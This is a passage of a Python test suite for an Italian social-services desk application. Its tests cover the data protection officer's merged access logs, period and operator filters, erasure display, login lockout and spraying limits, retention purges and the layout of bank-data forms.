    """The DPO `rpd`'s read-log token of `service`, kept as `set-read-log-token rpd --service <service>` keeps it."""
    await conn.execute(
        "insert into service_tokens values ($1, $2, $3)",
        "rpd",
        f"{service}-read-log",
        store.seal(_token_key(desk.settings), "rpd", token),
    )


async def test_intakes_read_log_is_on_the_dpos_page_and_csv_beside_the_desks(desk: Desk) -> None:
    """The DPO's review: a partner's reads through intake's API (its own software, not the desk) left no trace she
    could read. The page merges intake's read log (`GET /read-log`, with the DPO's read-log token) with the desk's,
    each entry saying its source; filtered by person and by source; the CSV says it too, in Italian."""
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
        await _dpo_token(conn, desk, "intake", "lgr_rpd")
    asked: list[httpx.Request] = []

    def read_log(request: httpx.Request) -> Any:
        asked.append(request)
        return [
            {"at": "2026-12-05T09:00:00+00:00", "principal": "coop-aurora", "role": "partner",
             "partner": "coop-aurora", "city": "torino", "person_id": "p-1", "kind": "record",
             "outcome": "shown", "via": "api"},
            {"at": "2026-12-05T08:00:00+00:00", "principal": "coop-borgo", "role": "partner",
             "partner": "coop-borgo", "city": "torino", "person_id": "p-1", "kind": "notes",
             "outcome": "denied", "via": "api"},
        ]  # fmt: skip

    desk.services.answers[("intake", "GET", "/read-log")] = read_log
    await desk.as_operator(RPD)
    page = await desk.client.get("/access-log?person_id=p-1")
    assert page.status_code == 200, page.text
    assert asked and asked[0].headers["authorization"] == "Bearer lgr_rpd"
    assert asked[0].url.params["person_id"] == "p-1"
    text = text_of(page.text)
    assert "API della presa in carico" in text and "Sportello" in text, text
    assert "Cartella sociale (API)" in text and "Diario (API)" in text, text
    assert "coop-aurora" in text and "negato" in text
    # the table's rows (the operator filter's list names every operator of the city)
    only_api = text_of((await desk.client.get("/access-log?person_id=p-1&source=intake")).text.split("<table")[1])
    assert "API della presa in carico" in only_api and "Maria Rossi" not in only_api, only_api
    rows = list(csv.reader(io.StringIO((await desk.client.get("/access-log.csv?person_id=p-1")).text)))
    assert rows[0][-1] == "Fonte", rows[0]
    api_row = next(r for r in rows if r[2] == "coop-aurora")
    assert api_row[-1] == "API della presa in carico" and api_row[5] == "Cartella sociale (API)", api_row
    printout = text_of((await desk.client.get("/access-log/subject/p-1")).text)
    assert "dal sistema informatico di un ente" in printout  # the person's history holds the API's reads too


async def test_housings_read_log_is_on_the_dpos_page_by_household(desk: Desk) -> None:
    """Housing answers no name, but a household's priority and why it is not matching say its needs: the reads
    through housing's API (a cooperative's own software) are on the DPO's page, source "API degli alloggi", each
    naming the household; the identifier she types is looked for in housing's log as a household's."""
    async with desk.pool.acquire() as conn:
        await _dpo_token(conn, desk, "housing", "lgr_housing")
    asked: list[httpx.Request] = []

    def read_log(request: httpx.Request) -> Any:
        asked.append(request)
        return [
            {"at": "2026-12-05T10:00:00+00:00", "principal": "coop-aurora", "principal_name": "Cooperativa Aurora",
             "role": "partner", "partner": "coop-aurora", "household_id": "h-7", "kind": "why",
             "outcome": "shown", "via": "api"},
            {"at": "2026-12-05T09:00:00+00:00", "principal": "coop-borgo", "principal_name": None,
             "role": "partner", "partner": "coop-borgo", "household_id": "h-7", "kind": "household",
             "outcome": "denied", "via": "api"},
        ]  # fmt: skip

    desk.services.answers[("housing", "GET", "/read-log")] = read_log
    await desk.as_operator(RPD)
    page = await desk.client.get("/access-log?person_id=h-7&source=housing")
    assert page.status_code == 200, page.text
    assert asked[0].headers["authorization"] == "Bearer lgr_housing" and asked[0].url.params["household_id"] == "h-7"
    text = text_of(page.text)
    assert "API degli alloggi" in text and "Perché il nucleo non ha un abbinamento (API) h-7" in text, text
    assert "Posizione del nucleo in lista d'attesa (API) h-7" in text, text
    assert "negato" in text and "coop-borgo" in text, text
    assert "Persona o nucleo (identificativo)" in text


async def test_a_persons_subject_access_printout_has_the_reads_of_her_households_housing_data(desk: Desk) -> None:
    """A person asks who read her data: she is known by her own id, not her household's. Housing's log keeps each
    household's members when it was read, and the desk asks it by person too: the printout and the page list the
    reads of her household's housing data, each naming its members."""
    async with desk.pool.acquire() as conn:
        await _dpo_token(conn, desk, "housing", "lgr_housing")
    asked: list[dict[str, str]] = []

    def read_log(request: httpx.Request) -> Any:
        asked.append(dict(request.url.params))
        if request.url.params.get("person_id") != "p-1":
            return []
        return [
            {"at": "2026-12-05T10:00:00+00:00", "principal": "coop-aurora", "principal_name": "Cooperativa Aurora",
             "role": "partner", "partner": "coop-aurora", "household_id": "h-7", "person_ids": ["p-1", "p-2"],
             "kind": "why", "outcome": "shown", "via": "api"},
        ]  # fmt: skip

    desk.services.answers[("housing", "GET", "/read-log")] = read_log
    await desk.as_operator(RPD)
    printout = text_of((await desk.client.get("/access-log/subject/p-1")).text)
    assert "La ricerca di un alloggio per il suo nucleo" in printout, printout
    assert {"person_id": "p-1"} in [{k: v for k, v in a.items() if k.endswith("_id")} for a in asked], asked
    page = await desk.client.get("/access-log?person_id=p-1")
    assert 'href="/access-log?person_id=p-2"' in page.text  # the household's other member, when it was read
    assert text_of(page.text).count("Perché il nucleo non ha un abbinamento (API) h-7") == 1  # asked twice, once


async def test_the_dpo_reads_the_access_log_of_a_period(desk: Desk) -> None:
    """The page shows the newest 500 entries: on a busy desk, a day's. A complaint about last month needs that month:
    the DPO gives a first and a last day (gg/mm/aaaa, the city's days), the desk's entries and the services' logs are
    read for that period only, the CSV too; a day that is no day is said at its field."""
    async with desk.pool.acquire() as conn:
        for person, at in (("p-old", "2026-10-31T22:30:00+00"), ("p-nov", "2026-11-15T09:00:00+00"),
                           ("p-new", "2026-12-01T08:00:00+00")):  # fmt: skip
            await store.log_access(conn, MARIA, person, "case_work", "cartella", "shown")
            await conn.execute("update access_log set at = $2::text::timestamptz where person_id = $1", person, at)
        for service in ("intake", "payments"):
            await _dpo_token(conn, desk, service, f"lgr_{service}")
    asked: list[httpx.Request] = []

    def log(request: httpx.Request) -> Any:
        asked.append(request)
        return []

    desk.services.answers[("intake", "GET", "/read-log")] = log
    desk.services.answers[("payments", "GET", "/download-log")] = log
    await desk.as_operator(RPD)
    page = await desk.client.get("/access-log?since=01/11/2026&until=30/11/2026")
    assert page.status_code == 200, page.text
    text = text_of(page.text)
    # 22:30 UTC on 31 October is 23:30 in Rome: October's, not November's
    assert "p-nov" in text and "p-old" not in text and "p-new" not in text, text
    assert {(r.url.path, r.url.params["since"], r.url.params["before"]) for r in asked} == {
        (path, "2026-11-01T00:00:00+01:00", "2026-12-01T00:00:00+01:00") for path in ("/read-log", "/download-log")
    }, asked
    assert 'value="01/11/2026"' in page.text and 'value="30/11/2026"' in page.text  # the period stays in its fields
    rows = list(
        csv.reader(io.StringIO((await desk.client.get("/access-log.csv?since=01/11/2026&until=30/11/2026")).text))
    )
    assert [r[3] for r in rows[1:]] == ["p-nov"], rows
    wrong = await desk.client.get("/access-log?since=31/02/2026")
    assert wrong.status_code == 422 and 'aria-invalid="true"' in wrong.text, wrong.text
    assert "31/02/2026" in wrong.text


async def test_a_reversed_period_is_said_and_the_csv_gives_the_screens_time(desk: Desk) -> None:
    """From 10/12/2026 to 01/12/2026 showed "Nessuna voce." as if nobody had looked: the end before the start is
    said at its field. The CSV gave UTC times (`…T10:17:20+00:00`) where the page shows Rome's (11:17:20): it gives
    Rome's, with its offset."""
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
        await conn.execute("update access_log set at = '2026-12-07T10:17:20+00'::timestamptz where person_id = 'p-1'")
    await desk.as_operator(RPD)
    reversed_ = await desk.client.get("/access-log?since=10/12/2026&until=01/12/2026&lang=it")
    said = text_of(reversed_.text)
    assert reversed_.status_code == 422 and 'id="until-error"' in reversed_.text, said
    assert "la fine del periodo è precedente all'inizio" in said, said
    page = text_of((await desk.client.get("/access-log?lang=it")).text)
    assert "11:17:20" in page, page
    rows = list(csv.reader(io.StringIO((await desk.client.get("/access-log.csv")).text)))
    assert rows[1][0] == "2026-12-07T11:17:20+01:00", rows


async def test_the_dpo_filters_the_access_log_by_operator_and_is_told_a_name_is_no_identifier(
    desk: Desk, browser: Any
) -> None:
    """An outside tester as the DPO: "what did this operator look at?" had no filter (person, source, days only), and
    "Traoré" in the person's identifier box gave "Nessuna voce." and still offered the printout "for the person" named
    Traoré. The operator is chosen among the city's operators (by name, the username beside it): the desk's entries
    are hers, the services' logs are asked for her actor (`principal`: a staff operator's own; a cooperative's
    operator acts as the cooperative, which the page says). A name typed for a person is said at the field, nothing
    read, no printout offered."""
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
        await store.log_access(conn, GIULIA, "p-2", "case_work", "cartella", "shown")
        await _dpo_token(conn, desk, "intake", "lgr_rpd")
    asked: list[httpx.Request] = []

    def read_log(request: httpx.Request) -> Any:
        asked.append(request)
        return [{"at": "2026-12-05T09:00:00+00:00", "principal": "desk.maria", "role": "staff", "partner": None,
                 "city": "torino", "person_id": "p-3", "kind": "record", "outcome": "shown",
                 "via": "desk"}]  # fmt: skip

    desk.services.answers[("intake", "GET", "/read-log")] = read_log
    await desk.as_operator(LUCA)  # a cooperative's operator, among the city's
    await desk.as_operator(RPD)
    page = await desk.client.get("/access-log?operator=maria&lang=it")
    assert page.status_code == 200, page.text
    assert '<option value="maria" selected>Maria Rossi (maria)</option>' in page.text, page.text
    assert '<option value="luca">Luca Bianchi (luca)</option>' in page.text, page.text
    text = text_of(page.text)
    assert "p-1" in text and "p-3" in text and "p-2" not in text, text  # Maria's, at the desk and through intake
    assert asked and asked[-1].url.params["principal"] == "desk.maria", asked
    rows = list(csv.reader(io.StringIO((await desk.client.get("/access-log.csv?operator=maria")).text)))
    assert {r[3] for r in rows[1:]} == {"p-1", "p-3"}, rows
    assert await axe_problems(desk, browser, {"access-log-operator": page.text}) == []
    coop = text_of((await desk.client.get("/access-log?operator=luca")).text)
    assert asked[-1].url.params["principal"] == "coop-aurora", asked
    assert "opera sui servizi a nome del suo ente" in coop, coop
    unknown = await desk.client.get("/access-log?operator=nobody")
    assert unknown.status_code == 422 and 'id="operator-error"' in unknown.text, unknown.text

    calls = len(asked)
    named = await desk.client.get("/access-log?person_id=Traoré")
    said = text_of(named.text)
    assert named.status_code == 422 and 'id="person_id-error"' in named.text, said
    assert "indichi l'identificativo della persona (dalla sua cartella), non il nome" in said, said
    assert "Stampa per l'interessato" not in said and "/access-log/subject/" not in named.text, said
    assert 'value="Traoré"' in named.text and len(asked) == calls  # kept in its field, nothing read
    for name in ("Mariam Traore", "Okafor"):
        assert (await desk.client.get("/access-log", params={"person_id": name})).status_code == 422, name
    assert (await desk.client.get("/access-log?person_id=p-1")).status_code == 200


async def test_the_access_log_says_so_when_intakes_read_log_cannot_be_read(desk: Desk) -> None:
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
    await desk.as_operator(RPD)  # no read-log token: the desk's entries, and the page says intake's are missing
    text = text_of((await desk.client.get("/access-log")).text)
    assert "Maria Rossi" in text, text
    assert "Il registro delle consultazioni del servizio di presa in carico al momento non è leggibile" in text, text
    assert "Il registro dei download dei file SEPA del servizio pagamenti al momento non è leggibile" in text, text


async def test_payments_download_log_of_its_sepa_files_is_on_the_dpos_page_beside_the_desks(desk: Desk) -> None:
    """The DPO could see only the SEPA files downloaded at the desk: a city IT script downloading them from payments'
    API (every payee's name and IBAN) left no trace she could read. The page merges payments' download log
    (`GET /download-log`, with her payments read-log token): each download with who, the file's batch, and through
    what; a person's entries those of the files paying her households."""
    async with desk.pool.acquire() as conn:
        await store.log_export(conn, MARIA, "sepa file b-1", "shown")
        await _dpo_token(conn, desk, "payments", "lgr_pay")
    asked: list[httpx.Request] = []

    def download_log(request: httpx.Request) -> Any:
        asked.append(request)
        return [
            {"at": "2026-12-05T10:00:00+00:00", "principal": "staff-torino-it", "message_id": "m-2",
             "batch_id": "b-2", "purpose": "contributions", "via": "api", "outcome": "shown"},
            {"at": "2026-12-05T09:30:00+00:00", "principal": "coop-aurora", "message_id": "m-1",
             "batch_id": "b-1", "purpose": "contributions", "via": "api", "outcome": "denied"},
            {"at": "2026-12-05T09:00:00+00:00", "principal": "desk.maria", "message_id": "m-1",
             "batch_id": "b-1", "purpose": "contributions", "via": "desk", "outcome": "shown"},
        ]  # fmt: skip

    desk.services.answers[("payments", "GET", "/download-log")] = download_log
    await desk.as_operator(RPD)
    page = await desk.client.get("/access-log")
    assert page.status_code == 200, page.text
    assert asked and asked[0].headers["authorization"] == "Bearer lgr_pay", asked
    text = text_of(page.text)
    assert "API dei pagamenti" in text and "API dei pagamenti (tramite lo sportello)" in text, text
    assert "File SEPA dei pagamenti (API) b-2" in text and "staff-torino-it" in text, text
    assert "Il registro dei download" not in text  # read: nothing said missing
    assert "File SEPA dei pagamenti (nomi e IBAN dei beneficiari) b-1" in text  # the desk's own entry, beside it
    only = text_of((await desk.client.get("/access-log?source=payments")).text)
    assert "b-2" in only and "nomi e IBAN dei beneficiari" not in only, only  # not the desk's own entry
    rows = list(csv.reader(io.StringIO((await desk.client.get("/access-log.csv?source=payments")).text)))
    assert [(r[2], r[5], r[6], r[-1]) for r in rows[1:]] == [
        ("staff-torino-it", "File SEPA dei pagamenti (API) b-2", "mostrato", "API dei pagamenti"),
        ("coop-aurora", "File SEPA dei pagamenti (API) b-1", "negato", "API dei pagamenti"),
        ("desk.maria", "File SEPA dei pagamenti (API) b-1", "mostrato", "API dei pagamenti (tramite lo sportello)"),
    ], rows
    # "Who saw my IBAN?": payments keeps the members of the households a file pays; a person's entries and her
    # printout ask it by her id, and list the downloads of the files that paid her household.
    asked.clear()

    def hers(request: httpx.Request) -> Any:
        asked.append(request)
        return [
            {"at": "2026-12-05T10:00:00+00:00", "principal": "staff-torino-it", "message_id": "m-2",
             "batch_id": "b-2", "purpose": "contributions", "via": "api", "outcome": "shown",
             "person_ids": ["p-1", "p-9"]},
        ] if request.url.params.get("person_id") == "p-1" else []  # fmt: skip

    desk.services.answers[("payments", "GET", "/download-log")] = hers
    page = await desk.client.get("/access-log?person_id=p-1")
    assert [a.url.params.get("person_id") for a in asked] == ["p-1"], asked
    assert "File SEPA dei pagamenti (API) b-2" in text_of(page.text)
    assert 'href="/access-log?person_id=p-9"' in page.text  # the other member of a household it paid
    printout = text_of((await desk.client.get("/access-log/subject/p-1")).text)
    assert "Un file di pagamento per la banca" in printout, printout


async def test_the_desk_tells_intake_it_is_the_desk(desk: Desk) -> None:
    """Intake's read log marks the reads the desk made (`LgNet-Client: desk`), so the DPO tells them apart."""
    serve_the_cartella(desk.services, clock.today().isoformat(), "2026-01-01")
    await desk.as_operator(MARIA)
    assert (await desk.client.get("/persons/p-1")).status_code == 200
    intake_calls = [r for r in desk.services.requests if r.url.port == 8001]
    assert intake_calls and all(r.headers.get("lgnet-client") == "desk" for r in intake_calls)


async def test_an_erased_members_vulnerabilities_are_not_shown_and_the_member_is_said_erased(desk: Desk) -> None:
    """A DPO's review: after a member's erasure her vulnerabilities were still listed under "(non visibile per Lei)".
    The cartella says the member was erased and shows nothing of her vulnerabilities, even from an intake that still
    gave them; the assessment's form offers none to record for her."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    record = a_record(today, earlier)
    record["households"][0]["members"].append(
        {"person_id": "p-9", "name": None, "birth_date": None, "sex": "female", "joined_on": earlier,
         "left_on": None, "reason": None, "erased": True}
    )  # fmt: skip
    record["cases"][0]["assessment"] = {
        "housing_situation": "precarious", "monthly_income_cents": 40_000, "employment_status": "unemployed",
        "vulnerabilities": ["psychiatric_condition", "single_parent"],
        "vulnerabilities_by_person": {"p-1": ["single_parent"], "p-9": ["psychiatric_condition"]},
    }  # fmt: skip
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    assert page.status_code == 200, page.text
    text = text_of(page.text)
    assert "non visibile per Lei" not in text, text
    assert "persona cancellata (diritto all'oblio) p-9" in text, text
    # the assessment lists Amina's alone (the form's options below name every vulnerability, not this)
    amina = "Amina Okafor, nata il 14 mar 1985, persona di riferimento"  # her birth date: two of one name told apart
    assert f"Vulnerabilità di {amina} Genitore solo con figli minori" in text, text
    assert "Vulnerabilità di persona cancellata" not in text, text
    assert 'name="vulnerabilities.p-9"' not in page.text  # nothing to record for an erased member


async def login_from(desk: Desk, address: str, username: str, password: str) -> httpx.Response:
    """A login as a browser at `address` makes it: the form (its CSRF cookie), then the post."""
    app = cast(httpx.ASGITransport, desk.client._transport).app  # desk_of serves the app in process
    transport = httpx.ASGITransport(app=app, client=(address, 50_000))
    async with httpx.AsyncClient(transport=transport, base_url="http://desk.test") as c:
        form = await c.get("/login")
        csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
        assert csrf is not None
        return await c.post("/login", data={"csrf": csrf.group(1), "username": username, "password": password})


async def with_password(desk: Desk, op: Operator, password: str) -> None:
    async with desk.pool.acquire() as conn:
        await store.add_operator(conn, op, login.HASHER.hash(password), {}, _token_key(desk.settings))


async def test_wrong_passwords_from_one_address_do_not_lock_the_operator_out_elsewhere(desk: Desk) -> None:
    """A DPO's review: five wrong passwords locked the account for everyone, so anyone could lock any operator
    out. The lock is now of the account from the address that failed: the operator still logs in from hers."""
    nadia = Operator(
        "nadia", "Nadia Ferri", OperatorRole.STAFF, "torino", None, "desk.op-0ad1a0000001", "op-0ad1a0000002"
    )
    await with_password(desk, nadia, "la-password-di-nadia")
    for _ in range(desk.settings.max_failures):
        assert (await login_from(desk, "203.0.113.7", "nadia", "sbagliata")).status_code == 401
    locked = await login_from(desk, "203.0.113.7", "nadia", "la-password-di-nadia")
    assert locked.status_code == 401 and "bloccato per 15 minuti" in text_of(locked.text)
    at_her_desk = await login_from(desk, "198.51.100.20", "nadia", "la-password-di-nadia")
    assert at_her_desk.status_code == 303, text_of(at_her_desk.text)


async def test_a_password_typed_as_the_username_is_not_kept_in_clear(desk: Desk) -> None:
    """A DPO's review of the desk's tables: a login attempt kept the username as typed for 90 days, and an operator
    who typed her password into the username field (a common slip) left it there in clear, beside her address. What
    names no operator is kept as a keyed hash: the lock of that name from that address still works, the same answers
    as for an existing username."""
    secret = "Nadia-Password-2026!"
    for _ in range(desk.settings.max_failures):
        assert (await login_from(desk, "203.0.113.9", secret, "qualcosa")).status_code == 401
    locked = await login_from(desk, "203.0.113.9", secret, "qualcosa")
    assert locked.status_code == 401 and "bloccato per 15 minuti" in text_of(locked.text)
    assert (await login_from(desk, "203.0.113.9", "un-altro-nome", "qualcosa")).status_code == 401
    async with desk.pool.acquire() as conn:
        typed = [r["username"] for r in await conn.fetch("select username from login_attempts")]
        assert not any(secret in u for u in typed), typed
        assert len(set(typed)) == 2, typed  # each name its own (keyed) hash


async def test_one_address_trying_many_accounts_is_slowed(desk: Desk) -> None:
    """A DPO's review: password spraying (one password on many accounts from one client) was never slowed, each
    account's count staying under its lock. An address with too many failures in the window is refused whatever
    account it tries, the right password included; another address is not."""
    olga = Operator("olga", "Olga Neri", OperatorRole.STAFF, "torino", None, "desk.op-01a000000001", "op-01a000000002")
    await with_password(desk, olga, "la-password-di-olga")
    for n in range(desk.settings.client_max_failures):
        assert (await login_from(desk, "192.0.2.66", f"utente{n}", "Estate2026!")).status_code == 401
    refused = await login_from(desk, "192.0.2.66", "olga", "la-password-di-olga")
    assert refused.status_code == 429, text_of(refused.text)
    assert "Troppi tentativi falliti da questo indirizzo" in text_of(refused.text)
    assert (await login_from(desk, "198.51.100.21", "olga", "la-password-di-olga")).status_code == 303


async def test_a_search_by_another_partys_case_is_refused_as_intake_refuses_it(desk: Desk) -> None:
    """Intake answers a search by another party's case number as for a case nobody has, 404 (it answered `200 []`,
    unlike the case itself; then 403, which told a cooperative that the case exists): the desk's search says so, in
    Italian, with that status, not "no result"."""
    refusal = {"status": 404, "field": "case_id", "reason": "no case c-altrui"}
    desk.services.answers[("intake", "POST", "/persons/search")] = httpx.Response(404, json=refusal)
    await desk.as_operator(LUCA)
    page = await desk.client.get("/", params={"case_id": "c-altrui"})
    assert page.status_code == 404, page.status_code
    assert "Nessuna pratica con il numero c-altrui" in text_of(page.text)


async def test_a_household_is_named_from_the_first_of_its_cases_the_operator_may_read(desk: Desk) -> None:
    """With intake refusing a search by another party's case (403), the household's name is read from its next
    case, as it was when that search answered nothing."""
    from lgnet_desk.service_layer import housing_steps

    def search(request: httpx.Request) -> Any:
        if json.loads(request.content)["case_id"] == "c-altrui":
            return httpx.Response(403, json={"status": 403, "field": "case_id", "reason": "not yours"})
        return [{"person_id": "p-1", "identity": {"given_name": "Amina", "family_name": "Okafor"},
                 "household_reference": True}]  # fmt: skip

    desk.services.answers[("intake", "POST", "/persons/search")] = search
    services = Services({"intake": SERVICE_URLS["LGNET_INTAKE_URL"]}, {"intake": "t"}, httpx.AsyncClient(
        transport=httpx.MockTransport(desk.services.handle)))  # fmt: skip
    async with desk.pool.acquire() as conn:
        name, pid = await housing_steps.household_reference(
            conn, services, LUCA, "h-5f1c0a9e7b2d", ["c-altrui", "c-8e2b7d41a9f0"]
        )
    assert (name, pid) == ("Amina Okafor", "p-1")


async def test_the_access_log_and_login_attempts_are_purged_past_their_retention(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The desk's access log (who read whose cartella) and its login attempts (usernames and addresses) were kept for
    ever: no retention job, where intake's read log has one. `lgnet-desk-admin purge` deletes the access log's entries
    older than `--days` (default 730, as intake's) and the login attempts older than `--login-days` (default 90)."""
    from lgnet_desk.entrypoints import admin

    async with desk.pool.acquire() as conn:
        for days in (800, 10):
            await conn.execute(
                "insert into access_log (at, operator, city, person_id, purpose, action, outcome) values"
                " (now() - make_interval(days => $1), 'maria', 'torino', 'p-1', 'case_work', 'cartella', 'shown')",
                days,
            )
            await conn.execute(
                "insert into login_attempts (at, username, client, succeeded)"
                " values (now() - make_interval(days => $1), 'maria', '10.0.0.1', false)",
                days * 10 // 80,  # 100 and 1 days ago
            )
    for k, v in {"DATABASE_URL": desk.settings.database_url, "LGNET_DB_SCHEMA": desk.settings.db_schema,
                 "LGNET_MASTER_KEY": desk.settings.master_key}.items():  # fmt: skip
        monkeypatch.setenv(k, v)
    assert await asyncio.to_thread(admin.main, ["purge"]) == 0
    said = capsys.readouterr().out
    assert "1 access log entries" in said and "1 login attempts" in said, said
    async with desk.pool.acquire() as conn:
        kept = await conn.fetchval("select count(*) from access_log where at < now() - interval '700 days'")
        left = await conn.fetchval("select count(*) from access_log where person_id = 'p-1' and operator = 'maria'")
        attempts = await conn.fetchval("select count(*) from login_attempts where client = '10.0.0.1'")
    assert (kept, left, attempts) == (0, 1, 1)


async def test_the_daily_purge_forgets_the_forms_kept_past_their_hour(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A DPO's review (storage limitation, erasure): a form sent after its session lapsed — a diary note, a payee's
    name and IBAN — is kept sealed with the desk's key for an hour, but was deleted only at somebody's next login: a
    desk nobody logged in to (a weekend, a holiday, a city's desk no longer used) kept it for good, and the person's
    erasure never reaches it. `lgnet-desk-admin purge`, daily, forgets what is past its hour too."""
    from lgnet_desk.entrypoints import admin

    async with desk.pool.acquire() as conn:
        for username, minutes in (("maria", 180), ("giulia", 5)):
            await conn.execute(
                "insert into kept_forms (username, path, anchor, sealed, kept_at)"
                " values ($1, '/persons/p-1', null, '\\x00', now() - make_interval(mins => $2))",
                username,
                minutes,
            )
    for k, v in {"DATABASE_URL": desk.settings.database_url, "LGNET_DB_SCHEMA": desk.settings.db_schema,
                 "LGNET_MASTER_KEY": desk.settings.master_key}.items():  # fmt: skip
        monkeypatch.setenv(k, v)
    assert await asyncio.to_thread(admin.main, ["purge"]) == 0
    async with desk.pool.acquire() as conn:
        assert await conn.fetchval("select array_agg(username) from kept_forms") == ["giulia"]


async def test_the_agenda_reads_its_persons_names_in_one_call_and_logs_the_view_once(desk: Desk) -> None:
    """A day of 30 appointments was 30 `GET /persons/{id}` to intake and 30 entries in the DPO's access log, every
    time the page was opened. The names are read in one call (intake's `POST /persons/search` with `person_ids`) and
    the view is one entry naming its persons (one more for those intake did not show): the DPO still finds each."""
    tomorrow = clock.today() + timedelta(days=1)
    starts, ends = f"{tomorrow.isoformat()}T09:00:00+00:00", f"{tomorrow.isoformat()}T09:30:00+00:00"
    persons = [{"person_id": f"p-{i:02}", "identity": {"given_name": f"Nome{i:02}", "family_name": "Rossi"}}
               for i in range(28)]  # fmt: skip
    persons_by_name(desk.services, *persons)
    appointments = [
        {"appointment_id": f"apt-{i}", "agenda": "desk", "operator": "giulia", "unit_id": None,
         "person_id": f"p-{i:02}", "street_id": None, "purpose": "needs_assessment", "starts_at": starts,
         "ends_at": ends, "status": "booked", "outcome": None, "booked_by": "desk.giulia"}
        for i in range(30)
    ]  # fmt: skip
    desk.services.answers |= {("intake", "GET", "/appointments"): appointments, ("intake", "GET", "/mobile-units"): []}
    await desk.as_operator(MARIA)
    agenda = await desk.client.get(f"/agenda?day={tomorrow.isoformat()}")
    assert agenda.status_code == 200, agenda.text
    assert "Nome05 Rossi" in agenda.text and '<a href="/persons/p-29?purpose=case_work">p-29</a>' in agenda.text
    reads = [c for c in desk.services.calls if c[0] == "intake" and c[2].startswith("/persons")]
    assert reads == [("intake", "POST", "/persons/search")], reads
    await desk.client.get(f"/agenda?day={tomorrow.isoformat()}")
    async with desk.pool.acquire() as conn:
        of_one = await store.access_entries(conn, "torino", "p-05")
        of_hidden = await store.access_entries(conn, "torino", "p-29")
        every = await store.access_entries(conn, "torino")
    assert [(e["action"], e["outcome"]) for e in of_one] == [("agenda", "shown")] * 2, of_one
    assert [(e["action"], e["outcome"]) for e in of_hidden] == [("agenda", "denied")] * 2, of_hidden
    assert len(every) == 4, every  # two views: one entry each of the persons shown, one of those not
    await desk.as_operator(RPD)  # the DPO reads who saw which persons, on the page and in the CSV
    page = (await desk.client.get("/access-log?person_id=p-05&lang=it")).text
    log = text_of(page)
    assert "Agenda" in log and "p-05" in log and "p-27" in log, log
    # a view's 28 persons are folded under their count, each a link to their own filter, whole (not cut at the "-")
    folded = re.findall(r"<details><summary>(\d+ persone)</summary>(.*?)</details>", page, re.S)
    assert [n for n, _ in folded] == ["28 persone", "28 persone"], folded
    assert '<a class="id" href="/access-log?person_id=p-27">p-27</a>' in folded[0][1], folded[0][1]
    export = (await desk.client.get("/access-log.csv?person_id=p-05&lang=it")).text
    assert "p-00 p-01" in export, export


async def test_each_request_waiting_for_bank_data_folds_its_form_under_a_line_saying_which_and_why(
    desk: Desk,
) -> None:
    """Every contribution request waiting for its payee's bank data showed a whole form (name, IBAN, BIC) in the
    cartella's table: with three waiting, the page was mostly empty forms. Each is folded (`<details>`, reached and
    opened with the keyboard) under a line saying which request waits and why, and opened when its form was refused."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)

    def request(rid: str, kind: str, cents: int, **more: Any) -> dict[str, Any]:
        return {"request_id": rid, "case_id": "c-8e2b7d41a9f0", "kind": kind, "amount_cents": cents,
                "period_from": None, "period_to": None, "requested_by": "desk.maria", "status": "requested",
                "has_beneficiary": False} | more  # fmt: skip

    refused = {"reason": "not a valid IBAN: check digits", "field": "iban", "status": 422}
    desk.services.answers |= {
        ("payments", "GET", "/contribution-requests"): [
            request("r-1", "rent", 45000, period_from="2026-11-01", period_to="2026-11-30"),
            request("r-2", "utilities", 12000, has_beneficiary=True, payee_refused={"reason": "ac04", "on": today}),
            request("r-3", "deposit", 8000),
            # its bank data given: folded too, to correct them (test_desk_payee: the form opens with them)
            request("r-4", "deposit", 5000, has_beneficiary=True, payee_name="Mario Rossi", iban_masked="••••3456"),
        ],
        ("payments", "PUT", "/contribution-requests/r-2/beneficiary"): httpx.Response(422, json=refused),
    }
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    folds = re.findall(r"<details[^>]*>\s*<summary>(.*?)</summary>", page.text, re.S)
    bank_data = "Coordinate bancarie del beneficiario per"
    said = [s for f in folds if (s := text_of(f).strip()).startswith(bank_data)]  # not the person's details' fold
    assert (
        len(said) == 4
        and said[3] == f"{bank_data} deposito cauzionale, 50,00 €: registrate, da correggere qui se serve"
    )
    assert said[0] == f"{bank_data} canone di affitto, 450,00 €, dal 1 nov 2026 al 30 nov 2026: ancora da indicare"
    assert said[1] == (
        f"{bank_data} utenze, 120,00 €: la banca ha respinto il bonifico (conto chiuso), servono nuove coordinate"
    ), said
    assert "<details open" not in page.text
    form = {"csrf": "csrf-maria", "request_id": "r-2", "payee_name": "Mario Bianchi",
            "payee_iban": "IT00X0000000000000000000000"}  # fmt: skip
    r = await desk.client.post("/persons/p-1/contributions/r-2/payee", data=form)
    assert r.status_code == 422, r.text
    opened = re.findall(r"<details open[^>]*>.*?</details>", r.text, re.S)
    assert len(opened) == 1 and 'id="payee_iban-r-2-error"' in opened[0], opened
    assert 'value="Mario Bianchi"' in opened[0]  # what was typed kept


async def test_a_date_is_shown_and_typed_as_an_italian_day_whatever_the_browsers_language(desk: Desk) -> None:
    """`<input type="date">` follows the browser's language, not the page's: an operator's browser in English showed
    "mm/dd/yyyy" on the Italian desk, and "05/12/2026" typed there is the 12th of May. Every date of the desk is a
    text field saying its format, "gg/mm/aaaa" (day first in English too: "dd/mm/yyyy"), shown so and taken so (or
    as an ISO date); a date that is none is said at its field in Italian with the format to use."""
    today = clock.today()
    serve_the_cartella(desk.services, today.isoformat(), today.isoformat())
    sent: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("payments", "POST", "/contribution-requests")] = keeping(sent)
